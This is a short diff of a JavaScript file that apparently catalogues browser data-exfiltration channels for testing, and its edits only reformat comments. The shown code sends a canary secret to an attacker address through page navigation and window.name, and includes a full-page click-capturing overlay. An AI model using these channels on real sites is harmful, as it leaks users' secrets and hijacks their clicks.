@@ -1,4 +1,7 @@
-/** Leading the page elsewhere, with the secret in the address. The attacker answers "no content", so that the page stays. */
+/**
+ * Channels by navigation of the page to an address with the canary. The attacker's response is 204 (No Content), so
+ * that the page stays.
+ */
 
 way("location.href", ({ address }) => (location.href = address), ALONE);
 way("location.assign", ({ address }) => location.assign(address), ALONE);
@@ -56,7 +59,12 @@ way("window.name, read by the next page", ({ attacker, secret }) => {
   location.href = `${attacker}/reads-name`;
 }, ALONE);
 
-/** Covers the page, so that a click anywhere is a click on it. @param {string} tag @param {object} [attributes] @param {ParentNode} [parent] */
+/**
+ * Covers the page with an element, which then gets every click.
+ * @param {string} tag
+ * @param {object} [attributes]
+ * @param {ParentNode} [parent]
+ */
 function cover(tag, attributes, parent) {
   const element = put(tag, attributes, parent);
   Object.assign(element.style, { position: "fixed", inset: "0", zIndex: "2147483647", width: "100%", height: "100%" });
